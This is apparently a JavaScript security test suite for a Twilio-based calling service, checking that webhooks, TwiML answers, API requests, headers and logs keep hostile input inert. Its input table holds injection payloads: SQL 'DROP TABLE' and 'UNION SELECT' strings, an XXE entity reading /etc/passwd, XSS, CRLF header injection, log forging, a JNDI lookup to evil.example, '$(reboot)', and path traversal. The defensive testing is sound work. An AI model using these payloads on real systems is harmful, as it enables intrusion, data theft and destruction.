// Texts that mean something elsewhere: to SQL, XML, JSON, HTTP, a terminal, a log. Wherever they are put, they come out as
// the texts they are.
import assert from "node:assert/strict";

import { exchange, jsonOf } from "./support/http.mjs";
import { stage } from "./support/world.mjs";

const FORGED = "forged.line";
const texts = {
    SQL: "'; DROP TABLE calls; --",
    "SQL in double quotes": '" OR 1=1 UNION SELECT secret_sha256 FROM api_keys; --',
    "a wildcard": "%_*?[a-z]",
    TwiML: "</Say><Dial>+15005550009</Dial><Say>",
    "a TwiML attribute": '" callerId="+15005550009',
    "an entity": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "what XML has escaped": "&lt;Hangup/&gt; &#x3c; &amp;amp; ]]>",
    JSON: '","admin":true,"x":"',
    HTML: "</script><script>alert(1)</script>",
    "a header": "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a line of the log": `x\n2026-01-01T00:00:00.000Z error ${FORGED} req=1`,
    "a field of the log": `x ${FORGED}=1 status=200`,
    "a quoted field of the log": `x" ${FORGED}="1`,
    "a terminal": "\u001b[2J\u001b]0;title\u0007\u009b31m",
    formats: "%s%n%x %1$s ${jndi:ldap://evil.example/a} {{7*7}} $(reboot) `reboot`",
    "a path": "../../../../etc/passwd",
    backslashes: "\\\\n\\u0041\\\"\\",
    "a text from right to left": "abc\u202edef\u2066\u2028\u2029\ufeff",
    "what XML cannot hold": "a\ufffe\uffff\u0001b",
    "four bytes each": "😀".repeat(60),
    "a long text": "A".repeat(5000),
};

const scenario = stage({ SWITCHHOOK_INBOUND_IDENTITIES: "+15005550006=alice" });

/* ---- what holds whatever was sent ---- */

const LINE = /^(<\d>)?\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z (debug|info|warning|error) [a-z_]+\.[a-z_]+( [a-z_0-9]+=("([^"\\\x00-\x1f\x7f]|\\.)*"|[^\s"=\\]*))*$/;
const NOTE = /^note: REST requests go to /;

function logIsClean(world) {
    const lines = world.server.output.slice(0, world.server.output.lastIndexOf("\n")).split("\n");
    assert.deepEqual(lines.filter((line) => !LINE.test(line) && !NOTE.test(line)), []);
    assert.deepEqual(world.logged(FORGED), []);
    assert.ok(lines.every((line) => Buffer.byteLength(line) < 2048), "a line is too long");
    const known = new Set(world.logged("http.request").flatMap(Object.keys));
    assert.ok(!known.has(FORGED));
}

const TAG = /<(\/?)([A-Za-z]+)((?: [A-Za-z]+="(?:[^"<&]|&(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);)*")*)(\/?)>/y;
const TEXT = /(?:[^<&]|&(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);)+/y;
const OURS = new Set(["Response", "Say", "Hangup", "Dial", "Number", "Client", "Identity", "Parameter", "Gather", "Pause"]);

/** The verbs of a document, which has to be whole and to hold no character that XML cannot. */
function verbsOf(xml) {
    const start = xml.match(/^<\?xml version="1\.0" encoding="UTF-8"\?>\s*/);
    assert.ok(start, xml);
    assert.doesNotMatch(xml, /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
    const open = [];
    const verbs = [];
    let at = start[0].length;
    while (at < xml.trimEnd().length) {
        const pattern = xml[at] === "<" ? TAG : TEXT;
        pattern.lastIndex = at;
        const match = pattern.exec(xml);
        assert.ok(match, `not XML at ${at}: ${xml}`);
        at = pattern.lastIndex;
        if (pattern === TEXT)
            continue;
        const [, closing, name, , empty] = match;
        assert.ok(OURS.has(name), `<${name}> in ${xml}`);
        if (closing)
            assert.equal(open.pop(), name, xml);
        else if (!empty)
            open.push(name);
        if (!closing && open.length <= 2 && name !== "Response")
            verbs.push(name);
    }
    assert.deepEqual(open, []);
    return verbs;
}

/* ---- webhooks ---- */

const call = (world, more) => ({ CallSid: world.sid(), From: "+14155550100", To: "+15005550006", Direction: "inbound", CallStatus: "ringing", ...more });
const fromBrowser = (world, more) => call(world, { From: "client:alice", Direction: "inbound", ...more });

// A route, the fields without the text, the fields that hold it, and the verbs of the answer.
const webhooks = [
    ["/webhooks/call-status", call, ["From", "To", "Direction", "CallerName", "CallStatus", "SequenceNumber", "CallDuration", "Timestamp", "CallbackSource", "SipResponseCode", "StirVerstat"]],
    ["/webhooks/recording-status", call, ["RecordingUrl", "RecordingStatus", "RecordingSource", "RecordingTrack", "RecordingDuration", "ErrorCode"]],
    ["/twiml", call, ["From", "Direction", "CallerName", "CallStatus", "ForwardedFrom", "FromCity"]],
    ["/twiml", fromBrowser, ["To", "phoneNumber", "CallerId", "team", "call"]],
    ["/twiml/menu", call, ["Digits", "From"]],
    ["/twiml/dial-action", call, ["DialCallStatus", "DialCallSid", "DialBridged", "DialCallDuration", "RecordingUrl", "RecordingSid"]],
    ["/twiml/whisper", call, ["From", "To"]],
    ["/twiml/announced", call, ["From", "To", "Digits"]],
    ["/twiml/fallback", call, ["ErrorCode", "ErrorUrl"]],
];

for (const [what, text] of Object.entries(texts))
    scenario(`${what} in the fields of webhooks`, async (world) => {
        for (const [route, fieldsOf, names] of webhooks)
            for (const name of names) {
                const fields = fieldsOf(world, { [name]: text, [`x${text}`]: text });
                if (route.includes("recording"))
                    fields.RecordingSid = world.sid("RE");
                const where = `${name} of ${route}`;
                const { status, text: said, headers } = await world.deliver(route, fields);
                if (route.startsWith("/twiml")) {
                    assert.equal(status, 200, where);
                    const verbs = verbsOf(said);
                    assert.ok(!verbs.includes("Dial") || !said.includes("5550009</"), `${where}: ${said}`);
                } else {
                    assert.equal(status, 204, `${where}: ${said}`);
                }
                assert.equal(headers["set-cookie"], undefined);
                const { timeline } = await world.call(fields.CallSid);
                assert.deepEqual(timeline.at(-1).parameters, { AccountSid: world.env.TWILIO_ACCOUNT_SID, ...fields }, where);
            }
        logIsClean(world);
    });

/* A page may add any parameters to its call. Those that Twilio does not send itself come to us under Twilio's names. */
for (const route of ["/twiml", "/twiml/fallback"])
    for (const method of ["POST", "GET"])
        scenario(`a page's parameters make its call no leg of another's, and tell of no recording: ${method} ${route}`, async (world) => {
            const victim = call(world, { CallStatus: "in-progress" });
            const recording = world.sid("RE");
            await world.deliver("/webhooks/call-status", victim);
            await world.deliver("/webhooks/recording-status", { CallSid: victim.CallSid, RecordingSid: recording, RecordingStatus: "in-progress", RecordingSource: "DialVerb" });
            const before = await world.call(victim.CallSid);
            for (const invented of [
                { ParentCallSid: victim.CallSid },
                { RecordingSid: recording, RecordingStatus: "deleted", RecordingUrl: "https://api.twilio.com/x" },
                { RecordingSid: world.sid("RE"), RecordingStatus: "completed", RecordingDuration: "3" },
            ]) {
                const fields = fromBrowser(world, { To: "+14155550101", ...invented });
                assert.equal((await world.deliver(route, fields, { method })).status, 200);
                const own = await world.call(fields.CallSid);
                assert.deepEqual([own.sid, own.identity, own.recordings], [fields.CallSid, "alice", []]);
                assert.notEqual(own.id, before.id);
                if (invented.RecordingSid && invented.RecordingSid !== recording)
                    assert.equal((await world.api.get(`/recordings/${invented.RecordingSid}`)).status, 404);
            }
            assert.deepEqual(await world.call(victim.CallSid), before);
        });

scenario("texts where SIDs belong are refused", async (world) => {
    for (const text of Object.values(texts))
        for (const name of ["CallSid", "AccountSid", "ParentCallSid"])
            for (const route of ["/webhooks/call-status", "/twiml"]) {
                const { status, text: said, headers } = await world.deliver(route, call(world, { [name]: text }));
                if (route === "/twiml") {
                    assert.equal(status, 200);
                    assert.deepEqual(verbsOf(said), ["Say", "Hangup"]);
                } else {
                    assert.equal(status, 422);
                    assert.equal(jsonOf({ headers, text: said }).errors?.[0]?.field ?? name, name);
                }
            }
    logIsClean(world);
});

scenario("a browser's name may be any text", async (world) => {
    for (const text of Object.values(texts)) {
        const fields = call(world, { From: `client:${text}`, To: "+14155550101" });
        const { status, text: said } = await world.deliver("/twiml", fields);
        assert.equal(status, 200);
        verbsOf(said);
        assert.equal((await world.call(fields.CallSid)).from, `client:${text}`);
    }
    logIsClean(world);
});

scenario("whom a browser wants to ring may be any text, and nobody else is dialled", async (world) => {
    for (const text of Object.values(texts)) {
        const { status, text: said } = await world.deliver("/twiml", fromBrowser(world, { To: `client:${text}` }));
        assert.equal(status, 200);
        verbsOf(said);
        assert.doesNotMatch(said, /<Number/);
    }
    logIsClean(world);
});

/* ---- the API ---- */

const members = ["to", "from", "flow", "identity", "caller_id", "recording_channels", "machine_detection", "send_digits", "twiml_url"];

for (const [what, text] of Object.entries(texts))
    scenario(`${what} in requests of frontends`, async (world) => {
        for (const name of members) {
            const { status, json } = await world.api.post("/calls", { to: world.number(), [name]: text });
            if (name === "to" && status === 201) // somebody's name, in Twilio's spelling
                assert.match((await world.sim.leg(json.sid)).to, /^client:[A-Za-z0-9_]+$/);
            else
                assert.ok(status === 422 || status === 403, `${name}: ${status} ${JSON.stringify(json)}`);
        }
        const to = world.number();
        const metadata = text.length > 1000 ? { note: text.slice(0, 1000) } : { [text]: text, nested: [{ [text]: [text] }] };
        const placed = await world.api.post("/calls", { to, metadata });
        assert.equal(placed.status, 201, placed.text);
        assert.deepEqual((await world.call(placed.json.id)).metadata, metadata);

        const minted = await world.api.post("/token", { identity: text });
        assert.ok([200, 413, 422].includes(minted.status), minted.text);
        if (minted.status === 200) {
            assert.equal(minted.json.identity, text);
            const claims = JSON.parse(Buffer.from(minted.json.token.split(".")[1], "base64url"));
            assert.match(claims.grants.identity, /^[A-Za-z0-9_]+$/);
        }

        const escaped = encodeURIComponent(text);
        if (escaped.length < 4000) {
            assert.equal((await world.api.get(`/token?identity=${escaped}`)).status, minted.status);
            for (const name of ["identity", "number", "status", "direction", "since", "until", "limit", "cursor"]) {
                const { status, json } = await world.api.get(`/calls?${name}=${escaped}`);
                const found = json.items?.every((item) => [item.from, item.to, item.identity].includes(text));
                assert.ok(status === 422 || (status === 200 && found), `${name}: ${status} ${JSON.stringify(json)}`);
            }
            for (const target of [`/calls/${escaped}`, `/calls/${escaped}/x`, `/${escaped}`])
                assert.ok([400, 404].includes((await world.api.get(target)).status), target);
            assert.ok([400, 404].includes((await world.api.post(`/calls/${escaped}/hangup`)).status));
        }
        logIsClean(world);
    });

scenario("texts in headers", async (world) => {
    for (const text of Object.values(texts)) {
        const bytes = Buffer.from(text, "utf8").toString("latin1").replace(/[\u0000-\u0008\u000a-\u001f\u007f]/g, "?").slice(0, 1000);
        const hostile = { "user-agent": bytes, "x-request-id": bytes, referer: bytes, cookie: bytes, "x-forwarded-for": bytes, "accept-language": bytes };
        for (const more of [{}, { authorization: bytes }, { authorization: `Bearer ${bytes}` }, { "content-type": bytes }, { host: bytes }, { "if-none-match": bytes }]) {
            const headers = { ...world.hostHeader(), authorization: `Bearer ${world.key}`, ...hostile, ...more };
            const { status, headers: told } = await exchange(world.origin, "GET", "/calls?limit=1", { headers });
            assert.ok(status === (more.authorization === undefined ? 200 : 401) || (more.host !== undefined && status === 400), `${status} ${JSON.stringify(more)}`);
            assert.match(told["x-request-id"], /^[0-9a-f]{16}$/);
        }
        const key = await world.api.post("/calls", { to: world.number() }, { "idempotency-key": bytes });
        assert.ok([201, 400, 422].includes(key.status), key.text);
        const token = await world.deliver("/webhooks/call-status", call(world), { token: bytes });
        assert.equal(token.status, 204);
        const signature = await world.deliver("/webhooks/call-status", call(world), { signature: bytes });
        assert.equal(signature.status, 403);
    }
    logIsClean(world);
});

scenario("after all that, everything is where it was", (world) => {
    const tables = ["api_keys", "audit", "calls", "deliveries", "delivery_attempts", "event_key", "filler", "idempotency", "identity_groups", "jobs", "legs", "places", "probe", "reconciler", "recordings", "retention", "subscriptions", "timeline", "transcript_lines", "transcript_partials", "transcript_search", ...["config", "data", "docsize", "idx"].map((part) => `transcript_search_${part}`), "transcriptions", "usage", "voicemails"];
    const found = world.sqlite("SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name");
    assert.deepEqual(found.map(({ name }) => name), tables);
    assert.equal(world.count("api_keys"), 1);
    assert.deepEqual(world.sqlite("PRAGMA integrity_check"), [{ integrity_check: "ok" }]);
});
